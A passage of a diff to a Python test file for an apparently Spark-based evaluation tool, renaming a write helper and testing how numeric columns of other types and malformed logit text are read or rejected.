     config.write_text(f"input: {{path: {tmp_path / 'eval'}}}\noutput: {{path: {tmp_path / 'out'}}}\n"
                       "columns: {split: split}\n")
@@ -1420,7 +1417,7 @@ def test_columns_of_other_types_read_as_their_numbers(spark, demo_config, tmp_pa
     import decimal
 
     plain = _rows().assign(weight=2.0)
-    _write(plain, tmp_path / "plain")
+    write_eval(plain, tmp_path / "plain")
     other = pa.Table.from_pandas(plain.drop(columns="ds").assign(
         run=True, weight=2, label=[decimal.Decimal(int(v)) for v in plain["label"]]), preserve_index=False)
     (tmp_path / "eval" / f"ds={DS}").mkdir(parents=True)
@@ -1433,7 +1430,7 @@ def test_columns_of_other_types_read_as_their_numbers(spark, demo_config, tmp_pa
     pd.testing.assert_frame_equal(got[cols], want[cols])
     texts = _rows().assign(logit=lambda f: f["logit"].map(repr))
     texts.loc[0, "logit"], texts.loc[1, "logit"], texts.loc[2, "logit"] = " 0.5 ", "1e999", "１２"
-    _write(texts, tmp_path / "texts")
+    write_eval(texts, tmp_path / "texts")
     result = evaluate(spark, demo_config(input__path=str(tmp_path / "texts"), on_invalid="drop"), DS, write=False)
     assert result.metrics.loc[0, ["n_rows", "n_invalid"]].tolist() == [N - 2, 2]
     with pytest.raises(InputError, match=r"1 rows: NaN or infinite logit/prediction; 1 rows: text that is not a "
